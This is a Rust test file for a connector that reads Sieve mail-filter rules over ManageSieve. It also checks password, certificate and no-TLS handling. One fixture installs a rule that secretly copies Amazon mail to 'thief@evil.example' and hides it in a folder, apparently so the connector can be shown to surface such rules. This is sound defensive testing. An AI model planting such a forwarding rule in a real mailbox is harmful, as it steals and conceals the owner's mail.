//! The rules of a mailbox, read from a real ManageSieve server.

use std::path::Path;
use std::time::Duration;

use sellkeep_connect::connector::{Connector, Trouble};
use sellkeep_connect::mailbox::Settings;
use sellkeep_connect::managesieve::Rules;
use serde_json::json;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpListener;

use crate::dovecot::{Dovecot, PASSWORD, free_port};
use crate::{secret, settings};

/// A server that speaks ManageSieve, too; `None` where that part is not installed.
fn server() -> Option<(Dovecot, u16)> {
    if !Path::new("/usr/lib/dovecot/managesieve").exists() {
        eprintln!("skipped: no ManageSieve (tests/setup-dovecot-sieve installs it)");
        return None;
    }
    let port = free_port();
    let more = format!(
        "protocols = imap sieve\nservice managesieve-login {{\n  chroot =\n  inet_listener sieve {{\n    port = {port}\n  }}\n}}\n\
         plugin {{\n  sieve = file:~/sieve;active=~/.dovecot.sieve\n}}\n"
    );
    Some((Dovecot::with(&more)?, port))
}

fn rules(server: &Dovecot, port: u16, password: &str) -> Rules {
    let settings = settings(server, port);
    Rules::new(settings, secret(password)).expect("settings")
}

#[tokio::test]
async fn a_rule_that_hides_notices_becomes_a_record_once() {
    let Some((server, port)) = server() else {
        return;
    };
    let batch = rules(&server, port, PASSWORD)
        .fetch("")
        .await
        .expect("read");
    assert_eq!(batch.records[0].source, "mailbox.rules");
    assert_eq!(
        batch.records[0].body,
        json!({"rules": []}),
        "no script is a state, too"
    );

    server.rules("require [\"fileinto\", \"copy\"];\n# rule:[sort]\nif header :contains \"from\" \"amazon\" { redirect :copy \"thief@evil.example\"; fileinto \"RSS Feeds\"; }\n");
    let next = rules(&server, port, PASSWORD)
        .fetch(&batch.next_cursor)
        .await
        .expect("read");
    let rule = json!({"delete": false, "name": "sort", "move_to": "RSS Feeds",
        "match": "if header :contains \"from\" \"amazon\"", "forward_to": ["thief@evil.example"]});
    assert_eq!(next.records[0].body, json!({"rules": [rule]}));

    // The same rules are heard and not told again.
    let same = rules(&server, port, PASSWORD)
        .fetch(&next.next_cursor)
        .await
        .expect("read");
    assert_eq!(
        (same.records.len(), same.next_cursor),
        (0, next.next_cursor)
    );
}

#[tokio::test]
async fn trouble_with_rules_has_its_own_words() {
    let Some((server, port)) = server() else {
        return;
    };
    let wrong = rules(&server, port, "wrong").fetch("").await;
    assert_eq!(wrong, Err(Trouble::Password));
    let strange = Settings {
        ca: None,
        ..settings(&server, port)
    };
    let unknown = Rules::new(strange, secret(PASSWORD))
        .expect("settings")
        .fetch("")
        .await;
    assert!(
        matches!(unknown, Err(Trouble::Certificate(_))),
        "{unknown:?}"
    );
}

/// A server that offers no TLS must never see the password.
#[tokio::test]
async fn without_tls_the_password_stays_here() {
    let listener = TcpListener::bind("127.0.0.1:0").await.expect("a port");
    let port = listener.local_addr().expect("an address").port();
    let heard = tokio::spawn(async move {
        let (mut stream, _) = listener.accept().await.expect("a client");
        let greeting = b"\"IMPLEMENTATION\" \"x\"\r\n\"SASL\" \"PLAIN\"\r\nOK\r\n";
        stream.write_all(greeting).await.expect("sent");
        let mut heard = vec![0; 1024];
        let came = stream.read(&mut heard).await.expect("read");
        stream
            .write_all(b"NO \"no TLS here\"\r\n")
            .await
            .expect("sent");
        let mut rest = Vec::new();
        let _ = tokio::time::timeout(Duration::from_secs(5), stream.read_to_end(&mut rest)).await;
        heard.truncate(came);
        heard.extend(rest);
        String::from_utf8(heard).expect("text")
    });
    let settings = Settings {
        host: "localhost".to_owned(),
        port,
        user: "mia".to_owned(),
        ca: None,
        oauth: None,
        folder: None,
    };
    let read = Rules::new(settings, secret(PASSWORD))
        .expect("settings")
        .fetch("")
        .await;
    assert_eq!(read, Err(Trouble::Refused("begin TLS")));
    assert_eq!(heard.await.expect("no panic"), "STARTTLS\r\n");
}
